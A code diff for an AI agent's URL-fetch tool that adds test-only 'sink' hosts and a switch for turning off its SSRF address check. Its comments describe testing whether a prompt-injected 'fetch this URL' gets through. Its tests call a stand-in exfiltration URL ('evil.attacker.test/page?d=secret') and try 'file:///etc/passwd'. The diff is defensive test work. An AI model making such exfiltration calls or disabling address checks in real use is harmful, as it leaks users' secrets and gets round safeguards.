@@ -23,6 +23,11 @@ pub struct FetchConfig {
     pub max_bytes: usize,
     /// Redirects followed, each checked like the first URL.
     pub max_redirects: u32,
+    /// Test deployments only (refused with `production`): hosts whose connections go to a fixed
+    /// local address, past the address check as if public. The harness points an attacker's
+    /// exfiltration host at a sink of its own here, so that an injected "fetch this URL" that
+    /// gets through is observed, not stopped by the machine having no internet.
+    pub sinks: BTreeMap<String, std::net::SocketAddr>,
 }
 
 impl Default for FetchConfig {
@@ -31,6 +36,7 @@ impl Default for FetchConfig {
             hosts: BTreeMap::new(),
             max_bytes: 64 * 1024,
             max_redirects: 3,
+            sinks: BTreeMap::new(),
         }
     }
 }
@@ -58,14 +64,62 @@ fn refused(e: ssrf::SsrfError) -> ToolError {
     }
 }
 
-/// Fetches `url` under the guard, following up to `max_redirects` redirects.
-pub async fn fetch(cfg: &FetchConfig, url: &str) -> Result<Value, ToolError> {
+/// A URL whose host is one of the configured sinks, pinned to the sink's address.
+fn sink_of(cfg: &FetchConfig, raw: &str) -> Option<Checked> {
+    let url = url::Url::parse(raw.trim()).ok()?;
+    let host = url.host_str()?.trim_end_matches('.').to_ascii_lowercase();
+    let addr = cfg
+        .sinks
+        .iter()
+        .find(|(h, _)| h.eq_ignore_ascii_case(&host))?
+        .1;
+    Some(Checked {
+        url,
+        addrs: vec![*addr],
+    })
+}
+
+/// The addresses of `raw` without the address check (`guard.ssrf: false`, guards off): still
+/// only http(s), resolved once and pinned, so that what the check would have stopped is reached.
+async fn unchecked(raw: &str, resolver: &dyn Resolver) -> Result<Checked, ssrf::SsrfError> {
+    let url = url::Url::parse(raw.trim()).map_err(|e| ssrf::SsrfError::Malformed(e.to_string()))?;
+    if !matches!(url.scheme(), "http" | "https") {
+        return Err(ssrf::SsrfError::Scheme(url.scheme().to_string()));
+    }
+    let port = url.port_or_known_default().unwrap_or(80);
+    let ips = match url.host() {
+        None => return Err(ssrf::SsrfError::NoHost),
+        Some(url::Host::Ipv4(ip)) => vec![IpAddr::V4(ip)],
+        Some(url::Host::Ipv6(ip)) => vec![IpAddr::V6(ip)],
+        Some(url::Host::Domain(d)) => resolver.resolve(&d.to_ascii_lowercase(), port).await?,
+    };
+    Ok(Checked {
+        addrs: ips
+            .into_iter()
+            .map(|ip| std::net::SocketAddr::new(ip, port))
+            .collect(),
+        url,
+    })
+}
+
+/// Fetches `url` under the guard, following up to `max_redirects` redirects. With `check_addresses`
+/// false (the SSRF check switched off, `guard.ssrf`) any address is fetched: only a test of what
+/// the check is worth turns it off.
+pub async fn fetch(
+    cfg: &FetchConfig,
+    url: &str,
+    check_addresses: bool,
+) -> Result<Value, ToolError> {
     let resolver = cfg.resolver();
     let mut next = url.to_string();
     for _ in 0..=cfg.max_redirects {
-        let checked = ssrf::check(&next, resolver.as_ref())
-            .await
-            .map_err(refused)?;
+        let checked = match sink_of(cfg, &next) {
+            Some(c) => c,
+            None if check_addresses => ssrf::check(&next, resolver.as_ref())
+                .await
+                .map_err(refused)?,
+            None => unchecked(&next, resolver.as_ref()).await.map_err(refused)?,
+        };
         let resp = get_pinned(&checked).await?;
         if resp.status().is_redirection() {
             let location = resp
@@ -189,7 +243,7 @@ mod tests {
             "http://user:pw@example.test/",
             "http://unknown.example.test/",
         ] {
-            let why = code(fetch(&c, url).await);
+            let why = code(fetch(&c, url, true).await);
             assert!(why.starts_with("ssrf_blocked"), "{url}: {why}");
         }
     }
@@ -248,5 +302,23 @@ mod tests {
             302,
             "fetch() re-checks the Location itself"
         );
+    }
+
+    #[tokio::test]
+    async fn a_sink_host_is_reached_at_its_address_and_the_check_off_reaches_anything() {
+        let addr = page_server().await;
+        let mut c = cfg(&[("internal.example.test", "127.0.0.1")]);
+        c.sinks.insert("evil.attacker.test".into(), addr);
+        let v = fetch(&c, "http://evil.attacker.test/page?d=secret", true)
+            .await
+            .unwrap();
+        assert_eq!(v["text"], "Opening hours: nine to five.");
+        // An internal host: refused by the check, reached without it.
+        let internal = format!("http://internal.example.test:{}/page", addr.port());
+        assert!(code(fetch(&c, &internal, true).await).starts_with("ssrf_blocked"));
+        let v = fetch(&c, &internal, false).await.unwrap();
+        assert_eq!(v["status"], 200);
+        // Still http(s) only.
+        assert!(code(fetch(&c, "file:///etc/passwd", false).await).starts_with("ssrf_blocked"));
     }
 }
